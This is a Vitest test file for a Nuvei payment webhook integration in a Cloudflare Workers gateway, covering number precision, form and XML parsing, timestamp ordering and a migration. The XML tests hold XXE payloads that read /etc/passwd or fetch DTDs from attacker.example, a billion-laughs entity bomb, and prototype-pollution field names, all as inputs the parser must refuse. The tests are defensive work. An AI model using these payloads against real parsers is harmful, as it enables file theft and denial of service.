import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { sha256Hex } from "../src/crypto/hmac";
import { EffectRegistry } from "../src/effects/registry";
import { nuvei } from "../src/providers/nuvei";
import type { NuveiWebhook } from "../src/providers/nuvei/schema";
import { nuveiPrecedence } from "../src/providers/nuvei/state";
import { sortableTime } from "../src/providers/precedence";
import type { ParseResult } from "../src/providers/types";
import { consume, messageFor } from "./support/consumer";
import { callGateway, deliver, NOW_S, recordingEnv, webhookRequest } from "./support/gateway";
import { uniqueId } from "./support/payloads";
import { signedHeaders } from "./support/sign";

const FORM = "application/x-www-form-urlencoded";

/** The provider's own parse, as ingest calls it after verification. */
async function parseAs(text: string, contentType: string): Promise<ParseResult> {
  const body = new TextEncoder().encode(text);
  return nuvei.parse(text, {
    headers: new Headers({ "content-type": contentType }),
    body,
    bodySha256: () => sha256Hex(body),
  });
}

/** A signed delivery through the real ingest route; `sent` holds what it queued. */
async function ingest(text: string, contentType: string) {
  const { env: testEnv, sent } = recordingEnv();
  const headers = { ...signedHeaders("nuvei", text, NOW_S), "content-type": contentType };
  const response = await callGateway(webhookRequest("nuvei", text, headers), { env: testEnv });
  return { response, sent };
}

const FORWARD_SINK = () => ({ ...env, FORWARD_URL: `${env.FORWARD_SINK_URL}/ok`, FORWARD_TIMEOUT_MS: "1000" }) as Env;

async function forwardedBody(eventId: string): Promise<string | undefined> {
  const all = (await (await fetch(`${env.FORWARD_SINK_URL}/_received`)).json()) as {
    headers: Record<string, string>;
    body: string;
  }[];
  return all.find((r) => r.headers["webhook-id"] === eventId)?.body;
}

async function row(transactionId: string) {
  return env.DB.prepare("SELECT * FROM nuvei_transactions WHERE transaction_id = ?")
    .bind(transactionId)
    .first<Record<string, unknown>>();
}

describe("Nuvei numbers are kept digit for digit (issue 9 item 3)", () => {
  // Written as JSON text: JSON.stringify of a JS number could never carry these digits.
  const body = (transactionId: string, merchantTransactionId: string, amount: string) =>
    `{"transactionId":${transactionId},"merchantTransactionId":${merchantTransactionId},"amount":${amount},` +
    `"currency":"USD","result":{"status":"approved"},"partialApproval":{"requestedAmount":${amount}}}`;

  it("stores a 19-digit merchantTransactionId, 10.10 and a 19-significant-digit amount as sent", async () => {
    const transactionId = `9${String(Date.now()).padStart(18, "0")}`;
    await consume([await messageFor("nuvei", body(transactionId, "1234567890123456789", "10.10"))]);
    expect(await row(transactionId)).toMatchObject({
      transaction_id: transactionId,
      merchant_transaction_id: "1234567890123456789",
      amount: "10.10",
    });

    const other = `8${String(Date.now()).padStart(18, "0")}`;
    await consume([await messageFor("nuvei", body(other, "1234567890123456788", "12345678901234567.89"))]);
    expect(await row(other)).toMatchObject({
      merchant_transaction_id: "1234567890123456788",
      amount: "12345678901234567.89",
    });
  });

  it("hands effect handlers and the forwarded event the source text of every number", async () => {
    const seen: NuveiWebhook[] = [];
    const registry = new EffectRegistry().on("nuvei:transaction.approved", "nuvei-digits", ({ payload }) => {
      seen.push(payload);
    });
    const transactionId = `7${String(Date.now()).padStart(18, "0")}`;
    const message = await messageFor("nuvei", body(transactionId, "1234567890123456787", "12345678901234567.89"));
    await consume([message], { registry, env: FORWARD_SINK() });

    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatchObject({
      transactionId,
      merchantTransactionId: "1234567890123456787",
      amount: "12345678901234567.89",
      partialApproval: { requestedAmount: "12345678901234567.89" },
    });
    const forwarded = await forwardedBody(message.id);
    expect(forwarded).toContain(`"transactionId":"${transactionId}"`);
    expect(forwarded).toContain('"merchantTransactionId":"1234567890123456787"');
    expect(forwarded).toContain('"amount":"12345678901234567.89"');
    expect(forwarded).toContain('"requestedAmount":"12345678901234567.89"');
  });

  it("keeps an amount sent as a string as it is", async () => {
    const transactionId = uniqueId("tx_string_amount");
    const payload = { transactionId, amount: "0010.100", result: { status: "pending" } };
    await consume([await messageFor("nuvei", payload)]);
    expect(await row(transactionId)).toMatchObject({ amount: "0010.100" });
  });
});

describe("Nuvei form bodies (issue 9 item 9)", () => {
  it.each([
    ["bytes that are not UTF-8", "result.status=approved&buyerName=%FF%FE"],
    ["a lone percent sign", "result.status=approved&amount=10%"],
    ["a percent sign before non-hex digits", "result.status=approved&currency=%G1SD"],
    ["an invalid escape in a field name", "result.status=approved&na%ZZme=x"],
    ["a truncated multi-byte sequence", "result.status=approved&buyerName=%C3"],
  ])("refuses %s instead of replacing it with U+FFFD", async (_name, text) => {
    const parsed = await parseAs(text, FORM);
    expect(parsed).toEqual({ ok: false, code: "payload_invalid", message: expect.stringMatching(/percent-encoding/) });
  });

  it("decodes valid escapes and + as before", async () => {
    const parsed = await parseAs("result.status=approved&buyerName=J%C3%BCrgen+M%C3%BCller&note=a%2Bb%3D", FORM);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(JSON.parse(parsed.value.payloadJson)).toEqual({
      result: { status: "approved" },
      buyerName: "Jürgen Müller",
      note: "a+b=",
    });
  });

  it("accepts fields named like Object.prototype members, at any depth", async () => {
    const text =
      "result.status=approved&toString=1&valueOf=2&hasOwnProperty=3&isPrototypeOf=4" +
      "&result.toString=5&paymentOption.valueOf.hasOwnProperty=6";
    const parsed = await parseAs(text, FORM);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(JSON.parse(parsed.value.payloadJson)).toEqual({
      result: { status: "approved", toString: "5" },
      toString: "1",
      valueOf: "2",
      hasOwnProperty: "3",
      isPrototypeOf: "4",
      paymentOption: { valueOf: { hasOwnProperty: "6" } },
    });
  });

  it("still refuses a field given twice, and __proto__, constructor and prototype segments", async () => {
    for (const text of [
      "result.status=approved&toString=1&toString=2",
      "result.status=approved&__proto__.polluted=1",
      "result.status=approved&constructor=1",
      "result.status=approved&paymentOption.prototype.x=1",
      "result.status=approved&result.__proto__=1",
    ]) {
      expect(await parseAs(text, FORM)).toMatchObject({ ok: false, code: "payload_invalid" });
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("a form webhook with a toString field drives the transaction like its JSON twin", async () => {
    const transactionId = uniqueId("tx_form");
    const text = `transactionId=${transactionId}&result.status=approved&amount=10.10&currency=EUR&toString=x`;
    const { response, sent } = await ingest(text, FORM);
    expect(response.status).toBe(202);
    await consume(sent);
    expect(await row(transactionId)).toMatchObject({ status: "approved", amount: "10.10", currency: "EUR" });
  });
});

describe("Nuvei timeStamps order to the nanosecond (issue 9 item 3)", () => {
  const HASH = "a".repeat(64);

  it("pins the stored precedence encoding", () => {
    expect(sortableTime("2024-08-28T12:11:47.337302438Z")).toBe("001724847107337302438");
    expect(nuveiPrecedence("approved", "2024-08-28T12:11:47.337302438Z", HASH)).toBe(
      `1|001724847107337302438|approved|${HASH}`,
    );
    expect(nuveiPrecedence("pending", undefined, HASH)).toBe(`0|${"0".repeat(21)}|pending|${HASH}`);
  });

  it.each([
    ["one nanosecond apart", "2024-08-28T12:11:47.337302438Z", "2024-08-28T12:11:47.337302439Z"],
    ["one microsecond apart", "2024-08-28T12:11:47.337302999Z", "2024-08-28T12:11:47.337303Z"],
    ["a short fraction against a long one", "2024-08-28T12:11:47.3373Z", "2024-08-28T12:11:47.337300001Z"],
    ["across a second", "2024-08-28T12:11:47.999999999Z", "2024-08-28T12:11:48Z"],
    ["under an offset", "2024-08-28T14:11:47.337302438+02:00", "2024-08-28T12:11:47.337302439Z"],
    ["undated before dated", undefined, "1970-01-01T00:00:00.000000001Z"],
  ])("orders times %s", (_name, earlier, later) => {
    expect(sortableTime(earlier) < sortableTime(later)).toBe(true);
    expect(sortableTime(earlier)).toHaveLength(21);
    expect(sortableTime(later)).toHaveLength(21);
  });

  it("the same instant written two ways sorts equal; an unreadable time is the earliest", () => {
    expect(sortableTime("2024-08-28T14:11:47.337302438+02:00")).toBe(sortableTime("2024-08-28T12:11:47.337302438Z"));
    expect(sortableTime("2024-08-28T12:11:47.3373024389999Z")).toBe(sortableTime("2024-08-28T12:11:47.337302438Z"));
    expect(sortableTime("not a time")).toBe("0".repeat(21));
    expect(sortableTime("1969-12-31T23:59:59.999999999Z")).toBe("0".repeat(21));
  });

  it("the later nanosecond wins in D1, not the status name, whatever the delivery order", async () => {
    for (const [first, second] of [
      ["earlier", "later"],
      ["later", "earlier"],
    ] as const) {
      const transactionId = uniqueId("tx_ns");
      const webhooks = {
        // Within one millisecond: the status name would pick "update" and "declined".
        earlier: [
          { transactionId, result: { status: "update" }, timeStamp: "2024-08-28T12:11:47.337302438Z" },
          {
            transactionId: `${transactionId}f`,
            result: { status: "declined" },
            timeStamp: "2024-08-28T12:11:47.337302438Z",
          },
        ],
        later: [
          { transactionId, result: { status: "pending" }, timeStamp: "2024-08-28T12:11:47.337302439Z" },
          {
            transactionId: `${transactionId}f`,
            result: { status: "approved" },
            timeStamp: "2024-08-28T12:11:47.337302439Z",
          },
        ],
      };
      for (const webhook of [...webhooks[first], ...webhooks[second]])
        await consume([await messageFor("nuvei", webhook)]);
      expect((await row(transactionId))?.status).toBe("pending");
      expect((await row(`${transactionId}f`))?.status).toBe("approved");
    }
  });
});

describe("migration 0007 rewrites stored precedences into the nanosecond encoding", () => {
  const migration = env.TEST_MIGRATIONS.find((m) => m.name.startsWith("0007_"));
  const rewrite = migration?.queries.find((q) => /UPDATE nuvei_transactions\s+SET precedence/.test(q));
  // The encoding before 0007: epoch milliseconds, 15 digits.
  const oldSortableTime = (iso: string | null) => {
    const ms = iso ? Date.parse(iso) : Number.NaN;
    return (Number.isFinite(ms) && ms >= 0 ? String(ms) : "0").padStart(15, "0");
  };

  it.each([
    ["nine fraction digits", "approved", "2024-08-28T12:11:47.337302438Z"],
    ["four fraction digits", "pending", "2024-08-28T12:11:47.3373Z"],
    ["twelve fraction digits", "pending", "2024-08-28T12:11:47.337302438999Z"],
    ["an offset", "declined", "2024-08-28T14:11:47.337302438+02:00"],
    ["no fraction", "update", "2024-08-28T12:11:47Z"],
    ["no offset", "update", "2024-08-28T12:11:47.5"],
    ["no time", "pending", null],
    ["an unreadable time", "pending", "yesterday"],
    ["another format Date.parse reads", "error", "Wed, 28 Aug 2024 12:11:47 GMT"],
  ])("%s: the rewritten row equals what the new code computes", async (_name, status, statusTime) => {
    expect(rewrite).toBeDefined();
    const key = uniqueId("tx_migrated");
    const hash = "b".repeat(64);
    const final = ["approved", "declined", "error", "authorizedOnly"].includes(status) ? 1 : 0;
    await env.DB.prepare(
      `INSERT INTO nuvei_transactions (transaction_id, status, precedence, status_time, updated_at)
       VALUES (?, ?, ?, ?, '2026-01-01T00:00:00Z')`,
    )
      .bind(key, status, `${final}|${oldSortableTime(statusTime)}|${status}|${hash}`, statusTime)
      .run();
    await env.DB.prepare(rewrite as string).run();
    await env.DB.prepare(rewrite as string).run(); // idempotent
    expect((await row(key))?.precedence).toBe(nuveiPrecedence(status, statusTime, hash));
  });
});

describe("migration 0007 gives rows written before it a precedence per field", () => {
  it("each field the row holds takes the row's precedence; a later webhook fills only what is missing", async () => {
    const migration = env.TEST_MIGRATIONS.find((m) => m.name.startsWith("0007_"));
    const backfill = migration?.queries.find((q) => /SET amount_precedence/.test(q));
    expect(backfill).toBeDefined();
    const transactionId = uniqueId("tx_backfill");
    const precedence = nuveiPrecedence("approved", "2026-11-23T10:00:00Z", "c".repeat(64));
    await env.DB.prepare(
      `INSERT INTO nuvei_transactions (transaction_id, status, precedence, amount, updated_at)
       VALUES (?, 'approved', ?, '10.10', '2026-01-01T00:00:00Z')`,
    )
      .bind(transactionId, precedence)
      .run();
    await env.DB.prepare(backfill as string).run();
    expect(await row(transactionId)).toMatchObject({
      amount_precedence: precedence,
      currency_precedence: null,
      transaction_type_precedence: null,
    });
    // An earlier pending with other details: it fills the currency, changes nothing else.
    await consume([
      await messageFor("nuvei", {
        transactionId,
        amount: "99",
        currency: "EUR",
        result: { status: "pending" },
        timeStamp: "2026-11-23T09:00:00Z",
      }),
    ]);
    expect(await row(transactionId)).toMatchObject({ status: "approved", amount: "10.10", currency: "EUR" });
  });
});

describe("Nuvei XML webhooks (issue 10 item 2, docs/contract.md §4)", () => {
  const XML = "application/xml";
  const webhookXml = (transactionId: string, status: string, extra = "") =>
    `<?xml version="1.0" encoding="UTF-8"?>
<webhook>
  <transactionId>${transactionId}</transactionId>
  <merchantTransactionId>1234567890123456789</merchantTransactionId>
  <transactionType>Auth</transactionType>
  <amount>10.10</amount>
  <currency>USD</currency>
  <result><status>${status}</status></result>
  <timeStamp>2024-08-28T12:11:47.337302438Z</timeStamp>
  <paymentOption>
    <alternativePaymentMethod>
      <name>ACH</name>
      <data><accountNumber>0011111111</accountNumber></data>
    </alternativePaymentMethod>
  </paymentOption>${extra}
</webhook>`;

  async function payloadOf(text: string, contentType = XML) {
    const parsed = await parseAs(text, contentType);
    if (!parsed.ok) throw new Error(parsed.message);
    return { parsed: parsed.value, payload: JSON.parse(parsed.value.payloadJson) as Record<string, unknown> };
  }

  it("parses into the JSON webhook's shape, every value a string digit for digit", async () => {
    const { parsed, payload } = await payloadOf(webhookXml("9007199254740993123", "approved"));
    expect(payload).toEqual({
      transactionId: "9007199254740993123",
      merchantTransactionId: "1234567890123456789",
      transactionType: "Auth",
      amount: "10.10",
      currency: "USD",
      result: { status: "approved" },
      timeStamp: "2024-08-28T12:11:47.337302438Z",
      paymentOption: { alternativePaymentMethod: { name: "ACH", data: { accountNumber: "0011111111" } } },
    });
    expect(parsed).toMatchObject({
      type: "transaction.approved",
      occurredAt: "2024-08-28T12:11:47.337302438Z",
      dedupeKey: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it("keeps amounts and ids a float would round, and names like toString", async () => {
    const xml =
      "<n><transactionId>0071</transactionId><amount>12345678901234567.89</amount>" +
      "<result><status>pending</status><toString>x</toString></result><valueOf>1e3</valueOf></n>";
    expect((await payloadOf(xml)).payload).toEqual({
      transactionId: "0071",
      amount: "12345678901234567.89",
      result: { status: "pending", toString: "x" },
      valueOf: "1e3",
    });
  });

  it("decodes the predefined entities and character references, and leaves CDATA as written", async () => {
    const xml =
      "<w><result><status>approved</status></result><buyer>A&amp;B &lt;C&gt; &quot;&apos; &#233;&#x1F600;</buyer>" +
      "<note><![CDATA[&amp; <raw>]]></note><split><![CDATA[a]]]]><![CDATA[>b]]></split><empty/></w>";
    expect((await payloadOf(xml)).payload).toEqual({
      result: { status: "approved" },
      buyer: "A&B <C> \"' é😀",
      note: "&amp; <raw>",
      split: "a]]>b",
      empty: "",
    });
  });

  it("reads text/xml, a charset parameter, a +xml type, and an XML body sent as JSON", async () => {
    const xml = "<w><result><status>approved</status></result></w>";
    for (const type of ["text/xml", "application/xml; charset=utf-8", "application/vnd.nuvei+xml", "application/json"])
      expect((await payloadOf(xml, type)).payload).toEqual({ result: { status: "approved" } });
  });

  it("refuses a DOCTYPE with an external entity (XXE), whatever its case", async () => {
    for (const xml of [
      '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
        "<w><transactionId>&xxe;</transactionId><result><status>approved</status></result></w>",
      '<!DOCTYPE w SYSTEM "https://attacker.example/evil.dtd"><w><result><status>approved</status></result></w>',
      '<!doctype w [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><w/>',
    ]) {
      const parsed = await parseAs(xml, XML);
      expect(parsed).toEqual({ ok: false, code: "payload_invalid", message: expect.stringMatching(/DOCTYPE/i) });
    }
  });

  it("refuses a billion-laughs document before expanding anything", async () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
    const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]><lolz><result><status>&lol9;</status></result></lolz>`;
    expect(await parseAs(xml, XML)).toEqual({
      ok: false,
      code: "payload_invalid",
      message: expect.stringMatching(/DOCTYPE/),
    });
    // An entity declaration smuggled anywhere else is refused too.
    expect(await parseAs('<w><![CDATA[<!ENTITY x "y">]]></w>', XML)).toMatchObject({
      ok: false,
      code: "payload_invalid",
    });
  });

  it("refuses an undeclared entity reference instead of keeping or expanding it", async () => {
    for (const reference of ["&xxe;", "&lol9;", "&nbsp;", "&#0;", "&#xD800;", "&#x110000;"]) {
      const xml = `<w><result><status>approved</status></result><buyer>a${reference}b</buyer></w>`;
      expect(await parseAs(xml, XML)).toMatchObject({ ok: false, code: "payload_invalid" });
    }
  });

  it.each([
    ["an unclosed element", "<w><result><status>approved</status></result>"],
    ["a mismatched end tag", "<w><result><status>approved</state></result></w>"],
    ["two root elements", "<w><result><status>approved</status></result></w><w/>"],
    ["no element at all", '<?xml version="1.0"?>'],
    ["a root with only text", "<w>approved</w>"],
    ["an attribute", '<w><result status="approved"><status>approved</status></result></w>'],
    ["an attribute on the root", '<w version="2"><result><status>approved</status></result></w>'],
    ["an element given twice", "<w><result><status>approved</status><status>declined</status></result></w>"],
    ["text beside child elements", "<w>x<result><status>approved</status></result></w>"],
    ["CDATA beside text", "<w><result><status>ap<![CDATA[proved]]></status></result></w>"],
    ["a bare ampersand", "<w><result><status>approved</status></result><b>A & B</b></w>"],
    ["a __proto__ element", "<w><result><status>approved</status></result><__proto__><x>1</x></__proto__></w>"],
    ["a constructor element", "<w><result><status>approved</status></result><constructor>1</constructor></w>"],
    ["nesting deeper than JSON bodies may be", `<w>${"<a>".repeat(65)}1${"</a>".repeat(65)}</w>`],
    ["no result.status", "<w><transactionId>1</transactionId></w>"],
    ["a transactionId of 257 characters", `<w><transactionId>${"1".repeat(257)}</transactionId></w>`],
  ])("refuses %s", async (_name, xml) => {
    expect(await parseAs(xml, XML)).toMatchObject({ ok: false, code: "payload_invalid", message: expect.any(String) });
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it("accepts nesting up to the JSON depth bound", async () => {
    const xml = `<w><result><status>approved</status></result>${"<a>".repeat(63)}1${"</a>".repeat(63)}</w>`;
    expect((await parseAs(xml, XML)).ok).toBe(true);
  });

  it("through ingest and the consumer, XML drives the transaction state as JSON does", async () => {
    const transactionId = `6${String(Date.now()).padStart(18, "0")}`;
    const approved = webhookXml(transactionId, "approved");
    const first = await ingest(approved, XML);
    expect(first.response.status).toBe(202);
    expect(first.sent).toEqual([
      expect.objectContaining({
        type: "transaction.approved",
        dedupeKey: await sha256Hex(new TextEncoder().encode(approved)),
      }),
    ]);
    await consume(first.sent);
    expect(await row(transactionId)).toMatchObject({
      status: "approved",
      merchant_transaction_id: "1234567890123456789",
      amount: "10.10",
      currency: "USD",
      transaction_type: "Auth",
    });

    // A later pending, as JSON: never over a final status, whichever format each came in.
    const pending = await ingest(
      JSON.stringify({ transactionId, result: { status: "pending" }, timeStamp: "2024-08-28T12:12:00Z" }),
      "application/json",
    );
    await consume(pending.sent);
    expect((await row(transactionId))?.status).toBe("approved");

    // And an XML decline that is later than the pending JSON one wins over it.
    const other = `5${String(Date.now()).padStart(18, "0")}`;
    await consume(
      (await ingest(JSON.stringify({ transactionId: other, result: { status: "pending" } }), "application/json")).sent,
    );
    await consume((await ingest(webhookXml(other, "declined"), "text/xml")).sent);
    expect((await row(other))?.status).toBe("declined");
  });

  it("deliver(): an XML body is recognised by its first byte, whatever its content type says", async () => {
    const transactionId = uniqueId("tx_xml_deliver");
    const { env: testEnv, sent } = recordingEnv();
    const response = await deliver("nuvei", webhookXml(transactionId, "declined"), { env: testEnv });
    expect(response.status).toBe(202);
    await consume(sent);
    expect(await row(transactionId)).toMatchObject({ status: "declined", amount: "10.10" });
  });

  it("verifies XML over its raw bytes: a changed byte is refused before parsing", async () => {
    const xml = webhookXml(uniqueId("tx_xml_sig"), "approved");
    const headers = { ...signedHeaders("nuvei", xml, NOW_S), "content-type": XML };
    const { env: testEnv, sent } = recordingEnv();
    const tampered = xml.replace("<amount>10.10</amount>", "<amount>10.1</amount> ");
    const response = await callGateway(webhookRequest("nuvei", tampered, headers), { env: testEnv });
    expect(response.status).toBe(401);
    expect(sent).toEqual([]);
  });
});
